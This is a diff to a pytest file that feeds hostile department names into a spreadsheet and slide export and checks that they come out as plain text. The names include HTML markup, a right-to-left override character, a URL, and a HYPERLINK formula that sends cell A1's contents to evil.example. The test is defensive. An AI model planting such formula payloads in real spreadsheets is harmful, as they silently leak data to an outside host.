@@ -18,7 +18,8 @@ HUGE = '<span style="font-size:120px">心血管内科</span>'
 BOLD = "<b>内分</b><br>泌科"
 RLO = "急诊科\u202e"  # a trailing RIGHT-TO-LEFT OVERRIDE: "61.5 未达 ≥ 90" would read "5.16 达未 ≤ 09"
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"泌尿外科")'
-HOSTILE = {"T02": LINK, "K01": HUGE, "K05": BOLD, "K20": RLO, "K10": FORMULA}
+URL = "https://evil.example/泌尿"  # xlsxwriter makes a string starting with a URL scheme a live link
+HOSTILE = {"T02": LINK, "K01": HUGE, "K05": BOLD, "K20": RLO, "K10": FORMULA, "K06": URL}
 
 
 @pytest.fixture
@@ -105,6 +106,8 @@ def test_pptx_holds_no_formula_and_shows_names_literally(hostile):
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
     assert any(isinstance(c.value, str) and FORMULA in c.value and c.data_type == "s" for c in cells)
+    assert not [c.coordinate for c in cells if c.hyperlink is not None]
+    assert any(isinstance(c.value, str) and URL in c.value for c in cells)
 
     prs = Presentation(io.BytesIO(data))
     ranking = next(sh.chart for s in prs.slides for sh in s.shapes if sh.has_chart)
